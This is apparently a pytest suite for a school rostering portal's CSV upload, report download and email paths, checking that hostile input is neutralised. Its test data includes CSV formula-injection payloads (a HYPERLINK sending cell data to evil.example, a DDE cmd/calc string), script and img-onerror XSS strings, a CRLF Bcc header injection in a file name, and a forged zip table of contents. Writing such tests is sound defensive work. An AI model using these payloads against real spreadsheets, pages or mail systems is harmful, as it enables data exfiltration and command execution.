"""The CSV method's page, downloads and emails as attackers and careless exports try them (issue 16's "more cases of
the same kind"): each ends with a message that says what to do, nothing changed, never a 500."""
import csv
import io
import os
import shutil
import struct

import pytest
from rq import SimpleWorker

import jobs.bundles
from jobs.bundles import accept_bundle
from store.db import db
from store.models import RosterBundle
from tests.connectors.csv_helpers import bundle_files, user_row, users, write_zip, zip_bytes
from tests.factories import make_bundle, make_csv_connection, make_issue, make_owner, make_person, make_run, make_school
from tests.jobs.test_report import smtp_sink  # noqa: F401 - the fixture: a real SMTP server on a loopback port
from tests.support import csrf_token, opted_in_owner, text

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\0")
PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", " =1+1", "Smith;=cmd|' /C calc'!A0", "Zoe,=1+1", "\r=1+1")


@pytest.fixture
def school(app, bundle_store):
    school = make_school(slug="probe-high")
    make_owner(school, email="owner@probe.example.org")
    make_csv_connection(school)
    return school


def _bundles():
    return db.session.scalar(db.select(db.func.count(RosterBundle.id)))


def _no_live_cell(body: str) -> None:
    """Open the CSV as a spreadsheet would: with , as the separator, and as European Excel does, splitting each
    line at every ; whatever the quotes. No cell may start (after blanks or a quote) with a formula character."""
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.lstrip(" \n").startswith(FORMULA), cell
    for line in body.splitlines():
        for cell in line.split(";")[1:]:
            assert not cell.lstrip(' "').startswith(FORMULA), cell


def test_no_cell_of_the_validation_report_csv_can_run_as_a_formula(app, client, auth, school):
    rows = [("error", "users.csv", "2", "givenName", payload, "Fix it") for payload in PAYLOADS]
    out = io.StringIO()
    csv.writer(out).writerows([("severity", "file", "line", "column", "problem", "what_to_do")] + rows)
    bundle = make_bundle(school, status="invalid", report_csv=out.getvalue())
    auth.login("owner@probe.example.org")
    body = text(client.get(f"/schools/{school.slug}/rostering/bundles/{bundle.id}/report.csv"))
    _no_live_cell(body)
    read_back = [row[4] for row in csv.reader(io.StringIO(body))][1:]
    assert read_back[0] == "'" + PAYLOADS[0]  # the value itself is kept, shown as text


def test_no_cell_of_the_issues_csv_can_run_as_a_formula(app, client, auth, school):
    run = make_run(school, status="succeeded")
    for n, payload in enumerate(PAYLOADS):
        make_person(school, source_id=f"s{n}", given_name=payload, family_name=payload)
        make_issue(run, source_id=payload if n % 2 else f"s{n}", message=payload)
    auth.login("owner@probe.example.org")
    response = client.get(f"/schools/{school.slug}/rostering/runs/{run.id}/issues.csv")
    assert response.status_code == 200
    _no_live_cell(text(response))


def _post_upload(client, school, data):
    data = {"csrf_token": csrf_token(client, f"/schools/{school.slug}/rostering"), **data}
    return client.post(f"/schools/{school.slug}/rostering/bundles", data=data, content_type="multipart/form-data")


def test_the_upload_form_without_a_file_or_with_another_field_name_says_choose_the_zip(app, client, auth, school):
    auth.login("owner@probe.example.org")
    for data in ({}, {"file": (io.BytesIO(zip_bytes(bundle_files())), "export.zip")},
                 {"bundle": (io.BytesIO(b""), "")}):
        refused = _post_upload(client, school, data)
        assert refused.status_code == 422
        assert "Choose the zip the SIS exported, or its CSV files" in text(refused)
    assert _bundles() == 0


def test_an_empty_file_is_refused_on_the_page_with_what_to_do(app, client, auth, school):
    auth.login("owner@probe.example.org")
    refused = _post_upload(client, school, {"bundle": (io.BytesIO(b""), "export.zip")})
    assert refused.status_code == 422
    assert ("export.zip is empty (0 bytes): the export or the download did not finish. Export the bundle from the "
            "SIS again and upload what it wrote.") in text(refused)
    empty_csvs = _post_upload(client, school, {"bundle": [(io.BytesIO(b""), "users.csv"),
                                                          (io.BytesIO(b""), "orgs.csv")]})
    assert empty_csvs.status_code == 422 and "are empty (0 bytes)" in text(empty_csvs)
    assert _bundles() == 0


def test_control_characters_in_an_uploaded_file_name_are_not_kept(app, client, auth, school):
    auth.login("owner@probe.example.org")
    sent = _post_upload(client, school, {"bundle": (io.BytesIO(zip_bytes(bundle_files())), "ex\x00port\t.zip")})
    assert sent.status_code == 302  # PostgreSQL cannot store a NUL: it was a 500
    assert db.session.scalar(db.select(RosterBundle.filename)) == "ex port .zip"


class _Endless(io.RawIOBase):
    """A request body that would go on for `total` bytes, made on the fly (the disk never holds it): the part
    headers first, then zeros. `served` says how much the server read. Seekable only so that the test client can
    measure it, as it does with every input stream."""

    def __init__(self, head: bytes, total: int):
        self.head, self.total, self.at, self.served = head, total, 0, 0

    def readable(self):
        return True

    def seekable(self):
        return True

    def seek(self, offset, whence=0):
        self.at = {0: 0, 1: self.at, 2: self.total}[whence] + offset
        return self.at

    def tell(self):
        return self.at

    def readinto(self, buffer):
        n = max(0, min(len(buffer), self.total - self.at))
        chunk = self.head[self.at:self.at + n]
        buffer[:n] = chunk + b"\0" * (n - len(chunk))
        self.at += n
        self.served += n
        return n


def _multipart_head(token: str) -> bytes:
    return (b"--B\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n" + token.encode() +
            b"\r\n--B\r\nContent-Disposition: form-data; name=\"bundle\"; filename=\"huge.zip\"\r\n"
            b"Content-Type: application/zip\r\n\r\n")


def test_a_501_mb_upload_is_refused_before_its_body_is_read(app, client, auth, school):
    auth.login("owner@probe.example.org")
    body = _Endless(_multipart_head(csrf_token(client, f"/schools/{school.slug}/rostering")), 501 * 1024 * 1024)
    response = client.post(f"/schools/{school.slug}/rostering/bundles", input_stream=io.BufferedReader(body),
                           content_length=body.total, content_type="multipart/form-data; boundary=B")
    assert response.status_code == 413
    assert "The upload is larger than 500 MB" in text(response) and "SFTP" in text(response)
    assert body.served < 1024 * 1024  # the declared length alone refused it
    assert _bundles() == 0


def test_a_chunked_upload_without_a_length_is_cut_at_the_limit(app, client, auth, school):
    app.config["BUNDLE_MAX_UPLOAD_BYTES"] = 2 * 1024 * 1024  # the same rule as 500 MB, without writing 500 MB
    auth.login("owner@probe.example.org")
    body = _Endless(_multipart_head(csrf_token(client, f"/schools/{school.slug}/rostering")), 64 * 1024 * 1024)
    response = client.post(f"/schools/{school.slug}/rostering/bundles", input_stream=io.BufferedReader(body),
                           content_type="multipart/form-data; boundary=B",
                           environ_overrides={"wsgi.input_terminated": True, "CONTENT_LENGTH": None})
    assert response.status_code == 413 and "The upload is larger than" in text(response)
    assert body.served < 4 * 1024 * 1024
    assert _bundles() == 0


def test_html_in_a_bundle_is_shown_as_text_on_the_page(app, client, auth, school, tmp_path):
    evil = "<script>alert(1)</script>"
    broken = users(user_row("u1", given=evil, org=evil))
    accept_bundle(school.id, write_zip(tmp_path / "x.zip", bundle_files(users_csv=broken)), via="sftp",
                  filename=f"<img src=x onerror=alert(1)>{evil}.zip")
    auth.login("owner@probe.example.org")
    page = text(client.get(f"/schools/{school.slug}/rostering"))
    assert evil not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_a_file_name_with_line_breaks_and_html_still_gets_its_report_email(app, bundle_store, tmp_path,
                                                                           smtp_sink):  # noqa: F811
    school = make_school()
    owner = opted_in_owner(school)
    make_csv_connection(school)
    broken = users(user_row("u1"), user_row("u1", given="Twin"))
    name = "<b>x</b>\r\nBcc: victim@example.org\r\n.zip"
    accept_bundle(school.id, write_zip(tmp_path / "x.zip", bundle_files(users_csv=broken)), via="sftp",
                  filename=name)
    (recipients, message), = smtp_sink.messages
    assert recipients == [owner.email] and message["Bcc"] is None
    assert " ".join(message["Subject"].split()) == (f"Rostering: {school.name} CSV bundle not applied (<b>x</b> Bcc: "
                                  "victim@example.org .zip)")
    html = next(part.get_payload(decode=True).decode() for part in message.walk()
                if part.get_content_type() == "text/html")
    assert "<b>x</b>" not in html and "&lt;b&gt;x&lt;/b&gt;" in html


def test_roster_import_of_a_device_or_a_fifo_is_bad_usage_said_plainly(app, runner, school, tmp_path):
    os.mkfifo(tmp_path / "pipe.zip")
    for path in ("/dev/zero", tmp_path / "pipe.zip"):
        result = runner.invoke(args=["roster", "import", "--school", school.slug, str(path)])
        assert result.exit_code == 2, result.output
        assert "is neither a zip file nor a folder of CSV files" in result.output
    assert _bundles() == 0


def test_roster_import_of_an_unreadable_file_says_so_and_changes_nothing(app, runner, school, tmp_path, monkeypatch):
    def unreadable(*args, **kwargs):
        raise PermissionError(13, "Permission denied")
    monkeypatch.setattr(shutil, "copyfile", unreadable)  # root reads every file: stand in for a mode-000 one
    path = write_zip(tmp_path / "export.zip", bundle_files())
    result = runner.invoke(args=["roster", "import", "--school", school.slug, path])
    assert result.exit_code == 1 and "cannot be read (Permission denied); nothing was changed" in result.output
    assert _bundles() == 0


def test_an_orgs_file_with_no_school_says_so_instead_of_several_schools(app, school, tmp_path):
    orgs = "sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId\nd1,,,North District,district,,\n"
    bundle = accept_bundle(school.id, write_zip(tmp_path / "x.zip", bundle_files(orgs_csv=orgs)), via="upload",
                           filename="x.zip")
    assert bundle.status == "invalid"
    assert ("orgs.csv lists no org of type school, so this school cannot be found in it. Export the bundle with the "
            "school's own row in orgs.csv (type school), then send it again.") in bundle.summary
    assert "several schools" not in bundle.report_csv


def test_a_zip_whose_table_of_contents_lies_is_refused_not_left_checking_for_ever(app, client, auth, school):
    data = bytearray(zip_bytes(bundle_files()))
    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(b"users.csv"))
    struct.pack_into("<L", data, entry + 42, 3)  # users.csv's entry "starts" where there is none
    auth.login("owner@probe.example.org")
    assert _post_upload(client, school, {"bundle": (io.BytesIO(bytes(data)), "export.zip")}).status_code == 302
    SimpleWorker([app.check_queue], connection=app.redis).work(burst=True)
    db.session.expire_all()
    bundle = db.session.scalar(db.select(RosterBundle))
    assert bundle.status == "refused", bundle.summary
    assert bundle.summary.startswith("users.csv in the zip is damaged")


def test_more_files_than_the_form_takes_get_a_message_about_files_not_megabytes(app, client, auth, school):
    auth.login("owner@probe.example.org")
    many = [(io.BytesIO(b"a,b\n"), f"f{n}.csv") for n in range(1200)]
    refused = _post_upload(client, school, {"bundle": many})
    assert refused.status_code == 413
    assert "larger than 500 MB" not in text(refused)
    assert "The upload holds more parts than one upload takes (at most 1,000 files and fields), or a form field " \
           "too large" in text(refused) and "Zip the CSV files" in text(refused)
    assert _bundles() == 0


def test_a_huge_form_field_gets_the_same_words_not_too_many_files(app, client, auth, school):
    """A 5 MB csrf_token field was answered "Too many files"."""
    auth.login("owner@probe.example.org")
    refused = _post_upload(client, school, {"bundle": (io.BytesIO(b"a,b\n"), "users.csv"), "note": "x" * 5_000_000})
    assert refused.status_code == 413
    assert "Upload not accepted" in text(refused) and "or a form field too large" in text(refused)
    assert "Too many files" not in text(refused) and _bundles() == 0


def test_a_check_that_fails_unexpectedly_ends_refused_with_what_to_do(app, client, auth, school, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("a bug in the reader")
    monkeypatch.setattr(jobs.bundles, "open_bundle", broken)
    auth.login("owner@probe.example.org")
    assert _post_upload(client, school, {"bundle": (io.BytesIO(zip_bytes(bundle_files())), "export.zip")}
                        ).status_code == 302
    SimpleWorker([app.check_queue], connection=app.redis).work(burst=True)
    db.session.expire_all()
    bundle = db.session.scalar(db.select(RosterBundle))
    assert bundle.status == "refused"
    shown = text(client.get(f"/schools/{school.slug}/rostering/bundles/{bundle.id}"))
    assert "Checking the files" not in shown and "The portal could not check this bundle" in shown


def test_the_errors_to_fix_come_before_the_warnings_on_the_page_in_the_email_and_the_csv(app, client, auth, school,
                                                                                         tmp_path, smtp_sink):  # noqa: F811
    """Sixty rows of warnings (a dangling org, a dangling contact, an unknown role, twenty of each shown) came first,
    so the page's first fifty rows and the email's first ten never showed the duplicate that stops the bundle."""
    owner = opted_in_owner(school)
    rows = [user_row(f"o{i}", org="gone") for i in range(25)] + \
        [user_row(f"a{i}", agents="nobody") for i in range(25)] + \
        [user_row(f"r{i}", role="coach") for i in range(25)] + [user_row("twin"), user_row("twin", given="Other")]
    bundle = accept_bundle(school.id, write_zip(tmp_path / "x.zip", bundle_files(users_csv=users(*rows))),
                           via="sftp", filename="x.zip")
    assert bundle.status == "invalid" and bundle.warning_count == 75
    duplicate = "sourcedId twin is used by an earlier row too"
    auth.login(owner.email)
    page = client.get(f"/schools/{school.slug}/rostering/bundles/{bundle.id}").get_data(as_text=True)
    table = page.split("<tbody>", 1)[1]
    assert 'class="problem-error"' in table and duplicate in table
    assert table.index('class="problem-error"') < table.index('class="problem-warning"')
    (recipients, message), = smtp_sink.messages
    body = next(part.get_payload(decode=True).decode() for part in message.walk()
                if part.get_content_type() == "text/plain")
    listed = body.split("VALIDATION REPORT", 1)[1]
    assert listed.index(duplicate) < listed.index("not an org in orgs.csv")
    report = list(csv.DictReader(io.StringIO(
        client.get(f"/schools/{school.slug}/rostering/bundles/{bundle.id}/report.csv").get_data(as_text=True))))
    assert [row["severity"] for row in report[:1]] == ["error"] and duplicate in report[0]["problem"]
